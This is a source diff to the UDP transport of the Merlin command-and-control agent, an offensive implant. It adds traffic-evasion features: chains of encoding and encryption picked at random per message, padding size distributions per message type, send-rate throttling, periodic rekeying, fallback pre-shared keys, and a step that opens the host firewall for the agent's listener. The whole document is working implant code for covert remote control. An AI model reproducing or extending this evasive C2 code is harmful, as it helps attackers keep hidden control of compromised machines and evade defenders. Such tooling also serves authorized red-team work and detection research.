@@ -30,7 +30,6 @@ import (
 	"encoding/gob"
 	"fmt"
 	"math"
-	"math/rand"
 	"net"
 	"strconv"
 	"strings"
@@ -44,18 +43,18 @@ import (
 	"github.com/Ne0nd0g/merlin-message"
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/v2/authenticators"
-	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/none"
-	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/opaque"
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/chain"
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/padding"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/prekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/rekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/throttle"
 	"github.com/Ne0nd0g/merlin-agent/v2/core"
+	"github.com/Ne0nd0g/merlin-agent/v2/firewall"
+	"github.com/Ne0nd0g/merlin-agent/v2/heap"
 	transformer "github.com/Ne0nd0g/merlin-agent/v2/transformers"
-	b64 "github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/base64"
-	gob2 "github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/gob"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/hex"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/aes"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/jwe"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/rc4"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/xor"
+	"github.com/Ne0nd0g/merlin-agent/v2/transformers/chains"
 )
 
 const (
@@ -81,10 +80,13 @@ type Client struct {
 	connection    net.Conn                     // connection the network socket connection used to handle traffic
 	listener      net.PacketConn               // listener the network socket connection listening for traffic
 	listenerID    uuid.UUID                    // listenerID the UUID of the listener that this Agent is configured to communicate with
-	paddingMax    int                          // paddingMax the maximum amount of random padding to apply to every Base message
-	psk           string                       // psk the pre-shared key used for encrypting messages until authentication is complete
-	secret        []byte                       // secret the key used to encrypt messages
-	transformers  []transformer.Transformer    // Transformers an ordered list of transforms (encoding/encryption) to apply when constructing a message
+	padding       *padding.Profile             // padding selects the amount of random padding added to each Base message
+	throttle      *throttle.Limiter            // throttle limits the rate, in bytes per second, that data is sent
+	rekey         *rekey.Schedule              // rekey tracks when the secret is replaced with a new one derived from it
+	psk           heap.Secret                  // psk the pre-shared key used for encrypting messages until authentication is complete
+	psks          []heap.Secret                // psks is the ordered list of Pre-Shared Keys tried when a message can't be decrypted with the secret
+	secret        heap.Secret                  // secret the key used to encrypt messages
+	transformers  [][]transformer.Transformer  // transformers the chains of transforms (encoding/encryption) to apply when constructing a message; one chain is picked for each message
 	mode          int                          // mode the type of client or communication mode (e.g., BIND or REVERSE)
 	sync.Mutex                                 // used to lock the Client when changes are being made by one function or routine
 }
@@ -95,9 +97,11 @@ type Config struct {
 	AgentID      uuid.UUID // AgentID the Agent's UUID
 	AuthPackage  string    // AuthPackage the type of authentication the agent should use when communicating with the server
 	ListenerID   uuid.UUID // ListenerID the UUID of the listener that this Agent is configured to communicate with
-	Padding      string    // Padding the max amount of data that will be randomly selected and appended to every message
-	PSK          string    // PSK the Pre-Shared Key secret the agent will use to start authentication
-	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message
+	Padding      string    // Padding the padding profile: the max amount of random data appended to every message (e.g., 4096) or size distributions per message type (e.g., checkin=lognormal:600:0.5;normal:2048:512)
+	Throttle     string    // Throttle the maximum rate, in bytes per second, that data is sent (e.g., 512K); empty is unlimited
+	Rekey        string    // Rekey is the message count and/or interval (e.g., 100,30m) after which a new secret is derived; empty never rekeys
+	PSK          string    // PSK the Pre-Shared Key secret the agent will use to start authentication, or a comma separated, ordered list of them
+	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message; multiple lists separated by a semicolon are chains and one is picked at random for each message
 	Mode         string    // Mode the type of client or communication mode (e.g., BIND or REVERSE)
 }
 
@@ -126,7 +130,8 @@ func New(config Config) (*Client, error) {
 	}
 
 	client.listenerID = config.ListenerID
-	client.psk = config.PSK
+	client.psks = heap.NewSecrets(clients.PSKs(config.PSK))
+	client.psk = client.psks[0]
 
 	// Parse Address and validate it
 	if len(config.Address) <= 0 {
@@ -139,63 +144,40 @@ func New(config Config) (*Client, error) {
 	client.address = config.Address[0]
 
 	// Set secret for encryption
-	k := sha256.Sum256([]byte(client.psk))
-	client.secret = k[:]
-	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk))
-	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret))
-
-	//Convert Padding from string to an integer
-	if config.Padding != "" {
-		client.paddingMax, err = strconv.Atoi(config.Padding)
-		if err != nil {
-			return &client, fmt.Errorf("there was an error converting the padding max to an integer:\r\n%s", err)
-		}
-	} else {
-		client.paddingMax = 0
+	k := sha256.Sum256(client.psk.Open())
+	client.secret = heap.NewSecret(k[:])
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk.Open()))
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret.Open()))
+
+	// Message padding profile
+	client.padding, err = padding.New(config.Padding)
+	if err != nil {
+		return &client, fmt.Errorf("clients/udp.New(): %s", err)
 	}
 
-	// Authenticator
-	switch strings.ToLower(config.AuthPackage) {
-	case "opaque":
-		client.authenticator = opaque.New(config.AgentID)
-	case "none":
-		client.authenticator = none.New(config.AgentID)
-	default:
-		return nil, fmt.Errorf("an authenticator must be provided (e.g., 'opaque'")
+	// Outbound bandwidth throttle
+	client.throttle, err = throttle.New(config.Throttle)
+	if err != nil {
+		return nil, fmt.Errorf("clients/udp.New(): %s", err)
+	}
+
+	// Session rekey schedule
+	client.rekey, err = rekey.New(config.Rekey)
+	if err != nil {
+		return nil, fmt.Errorf("clients/udp.New(): %s", err)
+	}
+
+	// Authenticator, or a comma separated list that is an ordered chain of authenticators that must all succeed (e.g., none,opaque)
+	client.authenticator, err = chain.Select(config.AgentID, config.AuthPackage)
+	if err != nil {
+		return nil, err
 	}
 
 	// Transformers
-	transforms := strings.Split(config.Transformers, ",")
-	for _, transform := range transforms {
-		var t transformer.Transformer
-		switch strings.ToLower(transform) {
-		case "aes":
-			t = aes.NewEncrypter()
-		case "base64-byte":
-			t = b64.NewEncoder(b64.BYTE)
-		case "base64-string":
-			t = b64.NewEncoder(b64.STRING)
-		case "gob-base":
-			t = gob2.NewEncoder(gob2.BASE)
-		case "gob-string":
-			t = gob2.NewEncoder(gob2.STRING)
-		case "hex-byte":
-			t = hex.NewEncoder(hex.BYTE)
-		case "hex-string":
-			t = hex.NewEncoder(hex.STRING)
-		case "jwe":
-			t = jwe.NewEncrypter()
-		case "rc4":
-			t = rc4.NewEncrypter()
-		case "xor":
-			t = xor.NewEncrypter()
-		default:
-			err := fmt.Errorf("clients/udp.New(): unhandled transform type: %s", transform)
-			if err != nil {
-				return nil, err
-			}
-		}
-		client.transformers = append(client.transformers, t)
+	// Multiple transformer chains are separated by a semicolon and one is picked at random for each message
+	client.transformers, err = chains.New(config.Transformers)
+	if err != nil {
+		return nil, fmt.Errorf("clients/udp.New(): %s", err)
 	}
 
 	cli.Message(cli.INFO, "Client information:")
@@ -204,7 +186,8 @@ func New(config Config) (*Client, error) {
 	cli.Message(cli.INFO, fmt.Sprintf("\tListener: %s", client.listenerID))
 	cli.Message(cli.INFO, fmt.Sprintf("\tAuthenticator: %s", client.authenticator))
 	cli.Message(cli.INFO, fmt.Sprintf("\tTransforms: %+v", client.transformers))
-	cli.Message(cli.INFO, fmt.Sprintf("\tPadding: %d", client.paddingMax))
+	cli.Message(cli.INFO, fmt.Sprintf("\tRekey: %s", client.rekey))
+	cli.Message(cli.INFO, fmt.Sprintf("\tPadding: %s", client.padding))
 
 	return &client, nil
 }
@@ -239,11 +222,23 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 
 	var authenticated bool
 	// Reset the Agent's PSK
-	k := sha256.Sum256([]byte(client.psk))
+	k := sha256.Sum256(client.psk.Open())
 	client.Lock()
-	client.secret = k[:]
+	client.secret = heap.NewSecret(k[:])
 	client.Unlock()
 
+	// Agree on an ephemeral pre-authentication secret so that the PSK alone can't decrypt the authentication messages
+	if prekey.Enabled() {
+		var secret []byte
+		secret, err = prekey.Agree(client.agentID, client.SendAndWait, string(client.psk.Open()))
+		if err != nil {
+			return
+		}
+		client.Lock()
+		client.secret = heap.NewSecret(secret)
+		client.Unlock()
+	}
+
 	// Repeat until authenticator is complete and Agent is authenticated
 	for {
 		msg, authenticated, err = client.authenticator.Authenticate(msg)
@@ -268,7 +263,8 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 			// Don't update the secret if the authenticator returned an empty key
 			if len(key) > 0 {
 				client.Lock()
-				client.secret = key
+				client.secret = heap.NewSecret(key)
+				client.rekey.Reset()
 				client.Unlock()
 			}
 		}
@@ -326,6 +322,12 @@ func (client *Client) Connect() (err error) {
 				return
 			}
 			cli.Message(cli.NOTE, fmt.Sprintf("Started %s listener on %s", client, client.address))
+			// Allow the parent Agent through the host firewall; the rule is removed when the Agent exits
+			if opened, errFw := firewall.Listening("udp", client.address); errFw != nil {
+				cli.Message(cli.WARN, fmt.Sprintf("clients/udp.Connect(): %s", errFw))
+			} else if opened != "" {
+				cli.Message(cli.NOTE, opened)
+			}
 		}
 		var n int
 		buffer := make([]byte, 4096)
@@ -366,17 +368,35 @@ func (client *Client) Connect() (err error) {
 // Construct takes in a messages.Base structure that is ready to be sent to the server and runs all the configured transforms
 // on it to encode and encrypt it.
 func (client *Client) Construct(msg messages.Base) (data []byte, err error) {
-	for i := len(client.transformers); i > 0; i-- {
-		if i == len(client.transformers) {
+	// Replace the secret with the next one derived from it when the rekey schedule is due
+	client.Lock()
+	secret := client.secret.Open()
+	if client.authenticated {
+		secret, err = client.rekey.Next(secret)
+		if err != nil {
+			client.Unlock()
+			return nil, fmt.Errorf("clients/udp.Construct(): %s", err)
+		}
+		client.secret = heap.NewSecret(secret)
+	}
+	client.Unlock()
+	index, prefix := transformer.Pick(len(client.transformers))
+	transformers := client.transformers[index]
+	for i := len(transformers); i > 0; i-- {
+		if i == len(transformers) {
 			// First call should always take a Base message
-			data, err = client.transformers[i-1].Construct(msg, client.secret)
+			data, err = transformers[i-1].Construct(msg, secret)
 		} else {
-			data, err = client.transformers[i-1].Construct(data, client.secret)
+			data, err = transformers[i-1].Construct(data, secret)
 		}
 		if err != nil {
 			return nil, fmt.Errorf("clients/udp.Construct(): there was an error calling the transformer construct function: %s", err)
 		}
 	}
+	// The prefix identifies the transformer chain to the server when there is more than one
+	if prefix != nil {
+		data = append(prefix, data...)
+	}
 	return
 }
 
@@ -385,20 +405,40 @@ func (client *Client) Construct(msg messages.Base) (data []byte, err error) {
 func (client *Client) Deconstruct(data []byte) (messages.Base, error) {
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/udp.Deconstruct(): entering into function with message: %+v", data))
 	//fmt.Printf("Deconstructing %d bytes with key: %x\n", len(data), client.secret)
-	for _, transform := range client.transformers {
+	index, data, err := transformer.Identify(data, len(client.transformers))
+	if err != nil {
+		return messages.Base{}, fmt.Errorf("clients/udp.Deconstruct(): %s", err)
+	}
+	client.Lock()
+	secret, previous, psks := client.secret.Open(), client.rekey.Previous(), client.psks
+	client.Unlock()
+	for _, transform := range client.transformers[index] {
 		//fmt.Printf("Transformer %T: %+v\n", transform, transform)
-		ret, err := transform.Deconstruct(data, client.secret)
+		ret, err := transform.Deconstruct(data, secret)
+		if err != nil && previous != nil {
+			// The server may have constructed the message before it followed the Agent to its latest secret
+			ret, err = transform.Deconstruct(data, previous)
+		}
 		if err != nil {
-			cli.Message(cli.WARN, fmt.Sprintf("clients/udp.Deconstruct(): unable to deconstruct with Agent's secret, retrying with PSK"))
-			// Try to see if the PSK works
-			k := sha256.Sum256([]byte(client.psk))
-			ret, err = transform.Deconstruct(data, k[:])
+			cli.Message(cli.WARN, fmt.Sprintf("clients/udp.Deconstruct(): unable to deconstruct with Agent's secret, retrying with the PSKs"))
+			// Try each PSK in order and keep the first one that works
+			for _, p := range psks {
+				k := sha256.Sum256(p.Open())
+				ret, err = transform.Deconstruct(data, k[:])
+				if err == nil {
+					// If a PSK worked, assume the agent is unauthenticated to the server
+					secret = k[:]
+					client.Lock()
+					client.authenticated = false
+					client.psk = p
+					client.secret = heap.NewSecret(secret)
+					client.Unlock()
+					break
+				}
+			}
 			if err != nil {
 				return messages.Base{}, err
 			}
-			// If the PSK worked, assume the agent is unauthenticated to the server
-			client.authenticated = false
-			client.secret = k[:]
 		}
 		switch ret.(type) {
 		case []uint8:
@@ -570,9 +610,8 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 	cli.Message(cli.NOTE, fmt.Sprintf("Sending %s message to %s at %s", m.Type, client.client, time.Now().UTC().Format(time.RFC3339)))
 
 	// Set the message padding
-	if client.paddingMax > 0 {
-		// #nosec G404 -- Random number does not impact security
-		m.Padding = core.RandStringBytesMaskImprSrc(rand.Intn(client.paddingMax))
+	if size := client.padding.Size(m.Type); size > 0 {
+		m.Padding = core.RandStringBytesMaskImprSrc(size)
 	}
 
 	data, err := client.Construct(m)
@@ -627,9 +666,11 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 		switch client.mode {
 		case BIND:
 			//fmt.Printf("[*-%d]%d:%d\n", i, start, stop)
+			client.throttle.Wait(stop - start)
 			n, err = client.listener.WriteTo(outData[start:stop], client.client)
 			cli.Message(cli.DEBUG, fmt.Sprintf("clients/udp.Send(): Wrote %d bytes from %s to connection %s at %s", n, client.listener.LocalAddr(), client.client, time.Now().UTC().Format(time.RFC3339)))
 		case REVERSE:
+			client.throttle.Wait(stop - start)
 			n, err = client.connection.Write(outData[start:stop])
 			cli.Message(cli.DEBUG, fmt.Sprintf("clients/udp.Send(): Wrote %d bytes from %s to connection %s at %s", n, client.connection.RemoteAddr(), client.client, time.Now().UTC().Format(time.RFC3339)))
 		}
@@ -679,8 +720,8 @@ func (client *Client) Get(key string) (value string) {
 	switch strings.ToLower(key) {
 	case "ja3":
 		return ""
-	case "paddingmax":
-		value = strconv.Itoa(client.paddingMax)
+	case "throttle":
+		value = strconv.Itoa(client.throttle.Rate())
 	case "protocol":
 		value = client.String()
 	default:
@@ -710,6 +751,16 @@ func (client *Client) ResetListener() (err error) {
 	return
 }
 
+// Padding returns the profile that selects the amount of random padding added to each Base message
+func (client *Client) Padding() *padding.Profile {
+	return client.padding
+}
+
+// SetPadding replaces the profile that selects the amount of random padding added to each Base message
+func (client *Client) SetPadding(profile *padding.Profile) {
+	client.padding = profile
+}
+
 // Set is a generic function that is used to modify a Client's field values
 func (client *Client) Set(key string, value string) (err error) {
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/udp.Set(): entering into function with key: %s, value: %s", key, value))
@@ -741,10 +792,17 @@ func (client *Client) Set(key string, value string) (err error) {
 			return fmt.Errorf("clients/udp.Set(): %s", err)
 		}
 		client.listenerID = id
-	case "paddingmax":
-		client.paddingMax, err = strconv.Atoi(value)
+	case "throttle":
+		err = client.throttle.Set(value)
+	case "psk":
+		// The PSK, or ordered list of them, is replaced along with the secret derived from it so the next
+		// authentication uses the new PSK
+		client.psks = heap.NewSecrets(clients.PSKs(value))
+		client.psk = client.psks[0]
+		k := sha256.Sum256(client.psk.Open())
+		client.secret = heap.NewSecret(k[:])
 	case "secret":
-		client.secret = []byte(value)
+		client.secret = heap.NewSecret([]byte(value))
 	default:
 		err = fmt.Errorf("unknown udp client setting: %s", key)
 	}